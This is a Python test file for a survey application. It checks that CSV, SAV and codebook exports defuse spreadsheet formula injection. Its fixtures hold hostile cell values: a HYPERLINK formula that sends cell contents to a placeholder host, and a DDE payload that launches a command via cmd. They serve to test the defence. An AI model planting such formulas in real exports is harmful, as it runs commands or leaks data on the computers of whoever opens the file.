"""Exports cannot attack their reader (#13): no formula in a CSV cell, in the SAV or the codebook."""

from __future__ import annotations

import csv
import io

import pyreadstat
import pytest
from sqlmodel import Session

from app.exports.spreadsheet import FORMULA_TRIGGERS, SafeCsvWriter, neutralise
from app.instrument_versions.service import published_instrument
from tests.app.test_exports import OPENS, store
from tests.factories.collection import make_invitation, make_wave
from tests.factories.organisation import make_key, make_municipality, make_professional, make_team

HYPERLINK = '=HYPERLINK("http://x/?"&A2,"Klik")'
CALC = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CALC, "'" + CALC),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'=1"),  # the tab is a hidden character: dropped, then the formula is quoted
        ("\r=1", "'=1"),
        ("\u202e=1+1", "'=1+1"),  # a bidi override does not hide a formula
        ("Team No\u200bord", "Team Noord"),
        ("Team Noord", "Team Noord"),
        ("Équipe Nord", "Équipe Nord"),
        ("", ""),
    ],
)
def test_neutralise(cell, safe):
    assert neutralise(cell) == safe


def test_the_writer_leaves_numbers_alone_and_neutralises_text():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow([-1, 2.5, "=1", None])
    assert buffer.getvalue() == "-1,2.5,'=1,\r\n"
    buffer = io.StringIO()
    SafeCsvWriter(buffer, text_columns=[1]).writerow(["=kept", "=quoted"])
    assert buffer.getvalue() == "=kept,'=quoted\r\n"


@pytest.fixture
def hostile(session: Session):
    municipality = make_municipality(session)
    team = make_team(session, municipality, name=HYPERLINK)
    professional = make_professional(session, team, code="-A1")
    wave = make_wave(session, municipality, name=CALC, opens_at=OPENS)
    invitation = make_invitation(session, wave, professional)
    items = [item.id for item in published_instrument().form("jongere").items(())]
    for value in (2, 4):
        store(session, invitation, {item: value for item in items})
    session.flush()
    # A research key with reports:professional: every row (published or not), codes filled in.
    return wave, make_key(session, None, "responses:read", "reports:professional")


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


def test_no_csv_cell_of_the_export_starts_a_formula(client, hostile):
    wave, headers = hostile
    response = client.get(f"/api/v1/exports/responses?wave_id={wave.id}&format=csv", headers=headers)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 2
    for row in rows:
        assert not [cell for cell in row.values() if dangerous(cell)]
        assert row["team_name"] == "'" + HYPERLINK
        assert row["wave_name"] == "'" + CALC
        assert row["professional_code"] == "'-A1"


def test_the_sav_holds_no_formula_either(client, hostile, tmp_path):
    wave, headers = hostile
    response = client.get(f"/api/v1/exports/responses?wave_id={wave.id}&format=sav", headers=headers)
    assert response.status_code == 200
    path = tmp_path / "export.sav"
    path.write_bytes(response.content)
    frame, meta = pyreadstat.read_sav(str(path))
    for column in ("wave_name", "team_name", "professional_code"):
        assert not [value for value in frame[column] if dangerous(str(value))], column
    assert set(frame["team_name"]) == {"'" + HYPERLINK}
    assert not dangerous(meta.file_label)


def test_the_codebook_csv_holds_no_formula(client, hostile):
    _, headers = hostile
    response = client.get("/api/v1/exports/codebook?format=csv", headers=headers)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert len(rows) > 10
    assert not [cell for row in rows for cell in row if dangerous(cell)]
